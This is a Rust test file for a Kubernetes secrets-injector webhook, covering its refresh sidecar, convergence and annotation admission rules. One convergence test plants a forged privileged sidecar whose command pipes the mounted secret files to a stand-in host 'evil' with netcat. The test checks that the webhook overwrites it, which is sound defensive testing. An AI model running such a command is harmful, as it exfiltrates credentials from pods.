//! Refresh while running, on the webhook's side: every admission rule of the `refresh-*`
//! annotations with the message the user sees, the native sidecar `secrets-injector-refresh` the
//! webhook adds (field by field, valid for every supported Kubernetes version), and its
//! convergence.

use crate::support::mutate::*;
use secrets_injector_webhook::mutation::{Decision, InjectorUser, mutate};
use secrets_injector_webhook::pod::pruned;
use serde_json::{Value, json};

const INTERVAL: &str = "secrets-injector.io/refresh-interval";
const SIGNAL: &str = "secrets-injector.io/refresh-signal";
const URL: &str = "secrets-injector.io/refresh-url";
const SIDECAR: &str = "secrets-injector-refresh";

fn sidecar(pod: &Value) -> &Value {
    named(pod, "initContainers", SIDECAR)
}

fn init_names(pod: &Value) -> Vec<&str> {
    list(pod, "initContainers")
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect()
}

fn remove_annotation(pod: &mut Value, name: &str) {
    pod["metadata"]["annotations"]
        .as_object_mut()
        .unwrap()
        .remove(name);
}

/// The seeds' pod asking for a refresh every 5 minutes, and nothing else.
fn seeds_with_interval() -> Value {
    let mut pod = fixture("seeds-example-pod.yaml");
    annotate(&mut pod, &[(INTERVAL, "5m")]);
    pod
}

fn assert_denied(pod: &Value, expected: &[&str]) -> String {
    assert_denied_with(pod, &cfg(), expected)
}

#[test]
fn the_sidecar_is_the_init_container_running_refresh_with_its_own_resources() {
    let pod = fixture("refresh-pod.yaml");
    let (out, warnings) = mutated(&pod, &cfg());
    assert!(warnings.is_empty(), "{warnings:?}");
    assert_eq!(init_names(&out), ["secrets-injector", SIDECAR]);
    let init = injector(&out);
    let sidecar = sidecar(&out);

    assert_eq!(sidecar["image"], IMAGE);
    assert_eq!(
        sidecar["command"],
        json!(["/usr/local/bin/injector", "refresh"])
    );
    let mut args = init["args"].as_array().unwrap().clone();
    args.extend([
        json!("--interval=5m"),
        json!("--signal=SIGHUP nginx"),
        json!("--url=http://127.0.0.1:9113/-/reload"),
    ]);
    assert_eq!(sidecar["args"], Value::Array(args));
    assert_eq!(sidecar["restartPolicy"], "Always");
    assert!(
        init.get("restartPolicy").is_none(),
        "the init container runs once"
    );
    // Same identity, mounts (the volume read-write) and hardening as the init container.
    for field in [
        "env",
        "volumeMounts",
        "securityContext",
        "terminationMessagePolicy",
    ] {
        assert_eq!(sidecar.get(field), init.get(field), "{field}");
    }
    assert_eq!(
        sidecar["volumeMounts"][0],
        json!({"name": "secrets-injector", "mountPath": "/mnt/secrets-store"})
    );
    assert_eq!(sidecar["securityContext"]["runAsUser"], 101);
    assert_eq!(sidecar["securityContext"]["readOnlyRootFilesystem"], true);
    // Its own small requests; a memory limit that holds the 16Mi volume, half of it again and
    // the process.
    assert_eq!(
        sidecar["resources"],
        json!({"limits": {"cpu": "100m", "memory": "40Mi"}, "requests": {"cpu": "10m", "memory": "16Mi"}})
    );
    let keys = |container: &Value| {
        let mut keys: Vec<String> = container.as_object().unwrap().keys().cloned().collect();
        keys.sort();
        keys
    };
    let mut expected = keys(init);
    expected.push("restartPolicy".to_owned());
    expected.sort();
    assert_eq!(keys(sidecar), expected, "nothing else is added");
    assert_converged(&out, &cfg());
}

#[test]
fn flags_size_the_sidecar_and_its_memory_limit_follows_the_volume() {
    let pod = seeds_with_interval();
    let mut cfg = cfg();
    cfg.volume_size_limit = "64Mi".parse().unwrap();
    cfg.refresh_cpu_request = "5m".parse().unwrap();
    cfg.refresh_memory_request = "8Mi".parse().unwrap();
    cfg.refresh_cpu_limit = "1".parse().unwrap();
    cfg.validate().unwrap();
    let (out, _) = mutated(&pod, &cfg);
    assert_eq!(
        sidecar(&out)["resources"],
        json!({"limits": {"cpu": "1", "memory": "112Mi"}, "requests": {"cpu": "5m", "memory": "8Mi"}})
    );
    cfg.refresh_memory_limit = Some("256Mi".parse().unwrap());
    let (out, _) = mutated(&pod, &cfg);
    assert_eq!(sidecar(&out)["resources"]["limits"]["memory"], "256Mi");

    // A limit that cannot hold the volume fails at startup, saying what it needs.
    cfg.refresh_memory_limit = Some("64Mi".parse().unwrap());
    let err = cfg.validate().unwrap_err().to_string();
    assert!(
        err.starts_with(
            "--refresh-memory-limit 64Mi is less than the refresh sidecar needs with --volume-size-limit 64Mi: 112Mi"
        ),
        "{err}"
    );
    cfg.refresh_memory_limit = None;
    cfg.refresh_memory_request = "200Mi".parse().unwrap();
    let err = cfg.validate().unwrap_err().to_string();
    assert!(
        err.starts_with(
            "--refresh-memory-request 200Mi is more than the refresh sidecar's memory limit 112Mi"
        ),
        "{err}"
    );
}

#[test]
fn the_injector_resources_annotation_sizes_the_init_container_only() {
    let mut pod = seeds_with_interval();
    annotate(
        &mut pod,
        &[(
            "secrets-injector.io/injector-resources",
            "{limits: {cpu: 500m, memory: 256Mi}}",
        )],
    );
    let (out, _) = mutated(&pod, &cfg());
    assert_eq!(
        injector(&out)["resources"],
        json!({"limits": {"cpu": "500m", "memory": "256Mi"}})
    );
    assert_eq!(sidecar(&out)["resources"]["limits"]["memory"], "40Mi");
}

#[test]
fn the_sidecar_comes_right_after_the_init_container_wherever_that_is() {
    let mut pod = fixture("sidecars-pod.yaml");
    annotate(&mut pod, &[(INTERVAL, "1h")]);
    let (out, _) = mutated(&pod, &cfg());
    assert_eq!(
        init_names(&out),
        ["secrets-injector", SIDECAR, "migrate", "envoy"],
        "init-first: the files and their refresh before every other init container"
    );
    assert_converged(&out, &cfg());

    annotate(&mut pod, &[("secrets-injector.io/init-first", "false")]);
    let (out, _) = mutated(&pod, &cfg());
    assert_eq!(
        init_names(&out),
        ["migrate", "envoy", "secrets-injector", SIDECAR]
    );
    assert_converged(&out, &cfg());
}

#[test]
fn the_webhook_reserves_the_sidecar_name() {
    let mut pod = seeds_with_interval();
    pod["spec"]["containers"][0]["name"] = json!(SIDECAR);
    assert_denied(
        &pod,
        &[
            "container name \"secrets-injector-refresh\" is reserved for the webhook's init containers; rename the container",
        ],
    );
    let mut pod = seeds_with_interval();
    annotate(
        &mut pod,
        &[(
            "secrets-injector.io/containers",
            "app, secrets-injector-refresh",
        )],
    );
    let (out, warnings) = mutated(&pod, &cfg());
    assert_eq!(
        warnings,
        [
            "annotation secrets-injector.io/containers: \"secrets-injector-refresh\" is the webhook's own init container and is ignored"
        ]
    );
    assert_eq!(own_mount(sidecar(&out)).unwrap().get("readOnly"), None);
}

// Convergence.

#[test]
fn a_forged_or_stale_sidecar_is_set_to_the_current_one() {
    let pod = fixture("refresh-pod.yaml");
    let (expected, _) = mutated(&pod, &cfg());

    // A pod that arrives with its own "sidecar": another image, a shell, privileges.
    let mut forged = pod.clone();
    forged["spec"]["initContainers"] = json!([{
        "name": SIDECAR,
        "image": "attacker/shell:latest",
        "command": ["/bin/sh", "-c", "cat /mnt/secrets-store/* | nc evil 80"],
        "securityContext": {"privileged": true, "runAsUser": 0},
        "volumeMounts": [{"name": "secrets-injector", "mountPath": "/mnt/secrets-store"}],
        "restartPolicy": "Always",
        "stdin": true
    }]);
    let (out, _) = mutated(&forged, &cfg());
    assert_eq!(init_names(&out), ["secrets-injector", SIDECAR]);
    assert_eq!(sidecar(&out), sidecar(&expected));
    assert_converged(&out, &cfg());

    // One made under other settings, and placed before the init container.
    let mut stale = expected.clone();
    let mut old = sidecar(&expected).clone();
    old["args"]
        .as_array_mut()
        .unwrap()
        .push(json!("--interval=1m"));
    old["resources"] = json!({"limits": {"memory": "8Mi"}});
    stale["spec"]["initContainers"] = json!([old, injector(&expected).clone()]);
    let (out, _) = mutated(&stale, &cfg());
    assert_eq!(init_names(&out), ["secrets-injector", SIDECAR]);
    assert_eq!(sidecar(&out), sidecar(&expected));
    assert_converged(&out, &cfg());
}

#[test]
fn an_init_container_another_webhook_adds_does_not_come_between() {
    let (out, _) = mutated(&seeds_with_interval(), &cfg());
    let other = json!({"name": "istio-init", "image": "istio/proxyv2:1.24"});
    for at in [0, 1, 2] {
        let mut reinvoked = out.clone();
        reinvoked["spec"]["initContainers"]
            .as_array_mut()
            .unwrap()
            .insert(at, other.clone());
        let (after, _) = mutated(&reinvoked, &cfg());
        // init-first: the files and their refresh come before it wherever it was put.
        assert_eq!(
            init_names(&after),
            ["secrets-injector", SIDECAR, "istio-init"],
            "inserted at {at}"
        );
        assert_eq!(sidecar(&after), sidecar(&out));
        assert_converged(&after, &cfg());
    }
}

#[test]
fn fields_the_api_server_defaults_are_left_alone() {
    let (mut out, _) = mutated(&fixture("refresh-pod.yaml"), &cfg());
    for container in out["spec"]["initContainers"].as_array_mut().unwrap() {
        container["imagePullPolicy"] = json!("IfNotPresent");
        container["terminationMessagePath"] = json!("/dev/termination-log");
        container["resources"]["limits"]["memory"] = json!(format!(
            "{}Ki",
            container["resources"]["limits"]["memory"]
                .as_str()
                .unwrap()
                .trim_end_matches("Mi")
                .parse::<u64>()
                .unwrap()
                * 1024
        ));
    }
    assert_converged(&out, &cfg());
}

#[test]
fn the_annotations_of_the_pod_now_decide_whether_a_sidecar_stays() {
    // Another webhook (or an edited manifest through `webhook inject`) took the interval away:
    // the pod now reads its files once, and the sidecar goes.
    let (mut out, _) = mutated(&fixture("seeds-example-pod.yaml"), &cfg());
    let (with_sidecar, _) = mutated(&seeds_with_interval(), &cfg());
    out["spec"]["initContainers"] = with_sidecar["spec"]["initContainers"].clone();
    let (after, _) = mutated(&out, &cfg());
    assert_eq!(init_names(&after), ["secrets-injector"]);
    assert_converged(&after, &cfg());

    // And one added by another webhook is followed the other way.
    let mut pod = out.clone();
    pod["spec"]["initContainers"] = json!([injector(&out).clone()]);
    annotate(&mut pod, &[(INTERVAL, "5m")]);
    let (after, _) = mutated(&pod, &cfg());
    assert_eq!(sidecar(&after), sidecar(&with_sidecar));

    // A changed interval reaches the sidecar's flags.
    let mut pod = with_sidecar.clone();
    annotate(&mut pod, &[(INTERVAL, "10m")]);
    let (after, _) = mutated(&pod, &cfg());
    assert_eq!(
        sidecar(&after)["args"].as_array().unwrap().last().unwrap(),
        "--interval=10m"
    );
    assert_converged(&after, &cfg());
}

#[test]
fn pods_that_refresh_are_valid_for_every_supported_kubernetes_version() {
    let (refresh, _) = mutated(&fixture("refresh-pod.yaml"), &cfg());
    let mut with_sidecars = fixture("sidecars-pod.yaml");
    annotate(
        &mut with_sidecars,
        &[(INTERVAL, "30s"), (URL, "http://localhost/reload")],
    );
    let (with_sidecars, _) = mutated(&with_sidecars, &cfg());
    let mut irsa = fixture("eks-irsa-pod.json");
    annotate(&mut irsa, &[(INTERVAL, "24h")]);
    let (irsa, _) = mutated(&irsa, &cfg());
    validate_for(
        &secrets_injector_e2e::validate::KUBERNETES_VERSIONS,
        &[
            ("refresh", &refresh),
            ("sidecars", &with_sidecars),
            ("irsa", &irsa),
        ],
    );
}

#[test]
fn workload_templates_get_the_sidecar_through_webhook_inject() {
    let input = r#"apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
      annotations:
        secrets-injector.io/objects: "[{objectName: /shop/db, objectType: ssmparameter}]"
        secrets-injector.io/refresh-interval: 15m
        secrets-injector.io/refresh-url: http://127.0.0.1:8080/reload
    spec:
      containers:
        - name: web
          image: registry.example.com/web:1
"#;
    let output = secrets_injector_webhook::inject::run(input, &cfg()).unwrap();
    let out: Vec<Value> = serde_saphyr::from_multiple(&output).unwrap();
    let template = &out[0]["spec"]["template"];
    assert_eq!(init_names(template), ["secrets-injector", SIDECAR]);
    let args = sidecar(template)["args"].as_array().unwrap();
    assert_eq!(
        args[args.len() - 2..],
        [
            json!("--interval=15m"),
            json!("--url=http://127.0.0.1:8080/reload")
        ]
    );
    // Injecting the output again changes nothing.
    assert_eq!(
        secrets_injector_webhook::inject::run(&output, &cfg()).unwrap(),
        output
    );
    // A Job's template cannot restart a process a signal ended.
    let job = r#"apiVersion: batch/v1
kind: Job
metadata:
  name: report
spec:
  template:
    metadata:
      annotations:
        secrets-injector.io/objects: "[{objectName: /r/smtp, objectType: ssmparameter}]"
        secrets-injector.io/refresh-interval: 5m
        secrets-injector.io/refresh-signal: SIGTERM report
    spec:
      restartPolicy: OnFailure
      shareProcessNamespace: true
      securityContext: {runAsUser: 1000}
      containers:
        - name: report
          image: registry.example.com/report:1
"#;
    let err = secrets_injector_webhook::inject::run(job, &cfg())
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("SIGTERM ends the process, and only the pod's restartPolicy: Always starts the container again, but it is OnFailure"),
        "{err}"
    );
}

#[test]
fn the_pruned_pod_keeps_what_the_refresh_rules_read() {
    let mut on_failure = fixture("refresh-pod.yaml");
    on_failure["spec"]["restartPolicy"] = json!("OnFailure");
    annotate(&mut on_failure, &[(SIGNAL, "SIGTERM nginx")]);
    let (injected, _) = mutated(&fixture("refresh-pod.yaml"), &cfg());
    let mut forged = fixture("refresh-pod.yaml");
    forged["spec"]["initContainers"] =
        json!([{"name": SIDECAR, "image": "x", "restartPolicy": "Always"}]);
    for pod in [fixture("refresh-pod.yaml"), on_failure, injected, forged] {
        let text = serde_json::to_string(&pod).unwrap();
        let raw = serde_json::value::RawValue::from_string(text).unwrap();
        let read = pruned::read(&raw).unwrap();
        assert_eq!(mutate(&read, &cfg()), mutate(&pod, &cfg()), "{pod:#}");
    }
}

// Admission rules.

#[test]
fn the_interval_is_a_whole_number_and_a_unit_within_bounds() {
    let cases = [
        ("", "the interval is empty"),
        ("5", "\"5\" has no unit"),
        ("1.5h", "is not an interval"),
        ("5 m", "is not an interval"),
        ("1d", "has no unit"),
        ("0s", "is zero"),
        ("25h", "longer than the longest interval, 24h"),
        ("10s", "10s is shorter than this cluster's minimum, 30s"),
        ("29s", "29s is shorter than this cluster's minimum, 30s"),
    ];
    for (value, expected) in cases {
        let mut pod = seeds_with_interval();
        annotate(&mut pod, &[(INTERVAL, value)]);
        let message = assert_denied(&pod, &[expected]);
        assert!(
            message.starts_with("annotation secrets-injector.io/refresh-interval: "),
            "{value:?}: {message}"
        );
    }
    for value in ["30s", "90s", "5m", "24h", "1440m"] {
        let mut pod = seeds_with_interval();
        annotate(&mut pod, &[(INTERVAL, value)]);
        mutated(&pod, &cfg());
    }
    // The cluster's minimum is the webhook's flag.
    let mut cfg = cfg();
    cfg.refresh_min_interval = std::time::Duration::from_secs(600);
    let mut pod = seeds_with_interval();
    let message = denial(&pod, &cfg);
    assert!(
        message.contains("5m is shorter than this cluster's minimum, 10m: write at least that"),
        "{message}"
    );
    annotate(&mut pod, &[(INTERVAL, "10m")]);
    assert!(matches!(mutate(&pod, &cfg), Decision::Patch { .. }));
}

#[test]
fn a_signal_or_url_without_an_interval_is_denied() {
    for (annotation, value) in [(SIGNAL, "SIGHUP nginx"), (URL, "http://127.0.0.1/reload")] {
        let mut pod = fixture("refresh-pod.yaml");
        remove_annotation(&mut pod, INTERVAL);
        remove_annotation(&mut pod, SIGNAL);
        remove_annotation(&mut pod, URL);
        annotate(&mut pod, &[(annotation, value)]);
        let message = denial(&pod, &cfg());
        assert_eq!(
            message,
            format!(
                "annotation {annotation} is set without secrets-injector.io/refresh-interval, so the files would be read once and nothing would ever be notified; add secrets-injector.io/refresh-interval (such as 5m), or remove {annotation}"
            )
        );
    }
}

#[test]
fn the_signal_names_a_known_signal_and_a_process_the_kernel_can_match() {
    let cases = [
        ("SIGHUP", "is not a signal and a process"),
        ("HUP nginx", "is not a known signal"),
        ("SIGSTOP nginx", "is not a known signal"),
        ("SIGHUP /usr/sbin/nginx", "not a path"),
        (
            "SIGHUP nginx-ingress-controller",
            "is longer than the kernel keeps (15 bytes)",
        ),
    ];
    for (value, expected) in cases {
        let mut pod = fixture("refresh-pod.yaml");
        annotate(&mut pod, &[(SIGNAL, value)]);
        let message = assert_denied(&pod, &[expected]);
        assert!(
            message.starts_with("annotation secrets-injector.io/refresh-signal: "),
            "{message}"
        );
    }
    let mut pod = fixture("refresh-pod.yaml");
    annotate(&mut pod, &[(SIGNAL, "SIGUSR1 nginx-ingress-c")]);
    mutated(&pod, &cfg());
}

#[test]
fn a_signal_needs_a_shared_process_namespace() {
    for share in [json!(false), Value::Null] {
        let mut pod = fixture("refresh-pod.yaml");
        if share.is_null() {
            pod["spec"]
                .as_object_mut()
                .unwrap()
                .remove("shareProcessNamespace");
        } else {
            pod["spec"]["shareProcessNamespace"] = share;
        }
        let message = denial(&pod, &cfg());
        assert_eq!(
            message,
            "annotation secrets-injector.io/refresh-signal: the sidecar can see process \"nginx\" only in a process namespace shared by the pod's containers; set spec.shareProcessNamespace: true, or have the app reload on a POST to secrets-injector.io/refresh-url instead"
        );
    }
}

#[test]
fn a_signal_needs_one_known_non_root_user_for_the_targets_and_the_sidecar() {
    let reason = |pod: &Value| {
        let message = denial(pod, &cfg());
        let prefix = "annotation secrets-injector.io/refresh-signal: a process without capabilities may signal only processes of its own user, so the target containers and the sidecar need one known non-root runAsUser, but ";
        let suffix =
            "; or have the app reload on a POST to secrets-injector.io/refresh-url instead";
        assert!(
            message.starts_with(prefix) && message.ends_with(suffix),
            "{message}"
        );
        message[prefix.len()..message.len() - suffix.len()].to_owned()
    };

    let mut unknown = fixture("refresh-pod.yaml");
    unknown["spec"]["securityContext"]
        .as_object_mut()
        .unwrap()
        .remove("runAsUser");
    assert_eq!(
        reason(&unknown),
        "container \"nginx\" has no runAsUser (in its securityContext or the pod's); set one"
    );

    let mut root = fixture("refresh-pod.yaml");
    root["spec"]["containers"][1]["securityContext"] = json!({"runAsUser": 0});
    assert_eq!(
        reason(&root),
        "container \"exporter\" runs as root, which the non-root sidecar may not signal; give it a non-root runAsUser"
    );

    let mut two = fixture("refresh-pod.yaml");
    two["spec"]["containers"][1]["securityContext"] = json!({"runAsUser": 65534});
    assert_eq!(
        reason(&two),
        "container \"nginx\" runs as 101 and \"exporter\" as 65534; give them one runAsUser"
    );
    // Only the target containers count.
    annotate(&mut two, &[("secrets-injector.io/containers", "nginx")]);
    let (out, _) = mutated(&two, &cfg());
    assert_eq!(sidecar(&out)["securityContext"]["runAsUser"], 101);

    // The sidecar's user left to the platform is not known either.
    let mut cfg = cfg();
    cfg.injector_user = InjectorUser::Unset;
    let pod = fixture("refresh-pod.yaml");
    assert!(matches!(mutate(&pod, &cfg), Decision::Patch { .. }));
    let mut no_user = fixture("seeds-example-pod.yaml");
    annotate(&mut no_user, &[(INTERVAL, "5m"), (SIGNAL, "SIGHUP app")]);
    no_user["spec"]["shareProcessNamespace"] = json!(true);
    no_user["spec"]["containers"][0]["securityContext"] = json!({"runAsUser": 0});
    let message = denial(&no_user, &cfg);
    assert!(
        message.contains("container \"app\" runs as root"),
        "{message}"
    );
}

#[test]
fn restart_signals_need_restart_policy_always() {
    for signal in ["SIGTERM", "SIGINT", "SIGKILL"] {
        for policy in ["OnFailure", "Never"] {
            let mut pod = fixture("refresh-pod.yaml");
            pod["spec"]["restartPolicy"] = json!(policy);
            annotate(&mut pod, &[(SIGNAL, &format!("{signal} nginx"))]);
            let message = denial(&pod, &cfg());
            assert_eq!(
                message,
                format!(
                    "annotation secrets-injector.io/refresh-signal: {signal} ends the process, and only the pod's restartPolicy: Always starts the container again, but it is {policy}; send a reload signal such as SIGHUP, or have the app reload on a POST to secrets-injector.io/refresh-url instead"
                )
            );
        }
        // Always, written or defaulted.
        let mut pod = fixture("refresh-pod.yaml");
        annotate(&mut pod, &[(SIGNAL, &format!("{signal} nginx"))]);
        mutated(&pod, &cfg());
        pod["spec"].as_object_mut().unwrap().remove("restartPolicy");
        mutated(&pod, &cfg());
    }
    // A reload signal is fine whatever the policy.
    let mut pod = fixture("refresh-pod.yaml");
    pod["spec"]["restartPolicy"] = json!("Never");
    mutated(&pod, &cfg());
}

#[test]
fn the_url_is_plain_http_on_the_pods_loopback() {
    let cases = [
        ("https://127.0.0.1/reload", "is not a plain http URL"),
        (
            "http://10.0.0.7:8080/reload",
            "is not the pod's own loopback",
        ),
        (
            "http://169.254.169.254/latest/meta-data",
            "is not the pod's own loopback",
        ),
        (
            "http://web.shop.svc/reload",
            "is not the pod's own loopback",
        ),
        ("http://admin@127.0.0.1/reload", "has user information"),
        ("http://127.0.0.1:0/", "is not 1 to 65535"),
    ];
    for (value, expected) in cases {
        let mut pod = fixture("refresh-pod.yaml");
        annotate(&mut pod, &[(URL, value)]);
        let message = assert_denied(
            &pod,
            &[expected, "write a plain http URL to the pod's own loopback"],
        );
        assert!(
            message.starts_with("annotation secrets-injector.io/refresh-url: "),
            "{message}"
        );
    }
    for value in [
        "http://localhost:8080/reload",
        "http://[::1]:9090/-/reload?x=1",
    ] {
        let mut pod = fixture("refresh-pod.yaml");
        annotate(&mut pod, &[(URL, value)]);
        mutated(&pod, &cfg());
    }
}

#[test]
fn every_problem_is_reported_at_once() {
    let mut pod = fixture("refresh-pod.yaml");
    pod["spec"]["shareProcessNamespace"] = json!(false);
    annotate(&mut pod, &[(INTERVAL, "1s"), (URL, "http://example.com/")]);
    let message = denial(&pod, &cfg());
    for part in [
        "refresh-interval: 1s is shorter",
        "shareProcessNamespace: true",
        "refresh-url: host \"example.com\"",
    ] {
        assert!(message.contains(part), "{part:?} in {message}");
    }
}

#[test]
fn a_sub_path_mount_of_the_volume_gets_a_warning() {
    let mut pod = fixture("refresh-pod.yaml");
    pod["spec"]["containers"][1]["volumeMounts"] = json!([
        {"name": "secrets-injector", "mountPath": "/etc/exporter/password", "subPath": "SECRET_USERNAME", "readOnly": true}
    ]);
    let (_, warnings) = mutated(&pod, &cfg());
    assert_eq!(
        warnings,
        [
            "annotation secrets-injector.io/refresh-interval: container \"exporter\" mounts the volume \"secrets-injector\" at /etc/exporter/password with subPath, which is resolved once, when the container starts: it never sees a refresh; read the file through a mount of the whole volume instead"
        ]
    );
    // Without a refresh, a subPath mount sees everything there is to see.
    remove_annotation(&mut pod, INTERVAL);
    remove_annotation(&mut pod, SIGNAL);
    remove_annotation(&mut pod, URL);
    let (_, warnings) = mutated(&pod, &cfg());
    assert!(warnings.is_empty(), "{warnings:?}");
}

#[test]
fn names_the_volume_layout_reserves_are_denied_with_the_object() {
    let mut pod = seeds_with_interval();
    annotate(
        &mut pod,
        &[(
            "secrets-injector.io/objects",
            "- {objectName: /app/db, objectType: ssmparameter, objectAlias: ..data}",
        )],
    );
    assert_denied(
        &pod,
        &[
            "annotation secrets-injector.io/objects: objects[0] (objectName \"/app/db\"): the file of objects[0] (objectName \"/app/db\") is \"..data\", which starts with \"..\"",
        ],
    );
    let mut pod = fixture("seeds-example-pod.yaml");
    annotate(
        &mut pod,
        &[
            ("secrets-injector.io/path-translation", "."),
            (
                "secrets-injector.io/objects",
                "- {objectName: /.env, objectType: ssmparameter}",
            ),
        ],
    );
    assert_denied(&pod, &["\"..env\", which starts with \"..\""]);
}

/// The cluster's --max-secrets-per-object reaches every injector the webhook writes: the init
/// container and the sidecar, which refreshes the same objects under the same bound.
#[test]
fn the_clusters_max_secrets_per_object_reaches_the_init_container_and_the_sidecar() {
    let pod = fixture("refresh-pod.yaml");
    let (plain, _) = mutated(&pod, &cfg());
    let mut with_max = cfg();
    with_max.max_secrets_per_object = Some(2000);
    let (out, warnings) = mutated(&pod, &with_max);
    assert!(warnings.is_empty(), "{warnings:?}");
    for container in [injector(&out), sidecar(&out)] {
        let args = container["args"].as_array().unwrap();
        assert_eq!(args[0], "--max-secrets-per-object=2000", "{container}");
        assert_eq!(
            args.iter()
                .filter(|a| a.as_str().unwrap().starts_with("--max-secrets"))
                .count(),
            1
        );
    }
    // Nothing else changes, and a pod admitted again is left as it is.
    let mut args = injector(&out)["args"].as_array().unwrap().clone();
    args.remove(0);
    assert_eq!(&args, injector(&plain)["args"].as_array().unwrap());
    assert_converged(&out, &with_max);
    // Without the flag, the injector's own default holds: no argument is written.
    assert!(
        !injector(&plain)["args"]
            .to_string()
            .contains("--max-secrets")
    );
}
